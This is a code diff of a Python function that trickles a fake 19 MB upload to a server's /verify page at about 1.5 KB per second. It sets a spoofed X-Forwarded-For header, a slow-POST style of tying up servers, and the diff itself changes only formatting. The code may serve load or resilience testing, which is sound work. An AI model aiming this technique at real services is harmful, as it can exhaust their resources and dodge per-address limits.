@@ -71,9 +71,9 @@ class Target:
 async def drip(target: Target, address: str) -> int | None:
     """Upload a file to the check page at 1.5 KB a second: the status of the answer, None if the hub hangs up."""
     reader, writer = await asyncio.open_connection(target.host, target.port)
-    writer.write(target.head(
-        "POST /verify", X_Forwarded_For=address, Content_Type="application/pdf", Content_Length=19 << 20
-    ))  # fmt: skip
+    writer.write(
+        target.head("POST /verify", X_Forwarded_For=address, Content_Type="application/pdf", Content_Length=19 << 20)
+    )
     answered = asyncio.create_task(_status(reader))
     while not (await asyncio.wait([answered], timeout=0.1))[0]:
         writer.write(b"%" * (DRIP // 10))
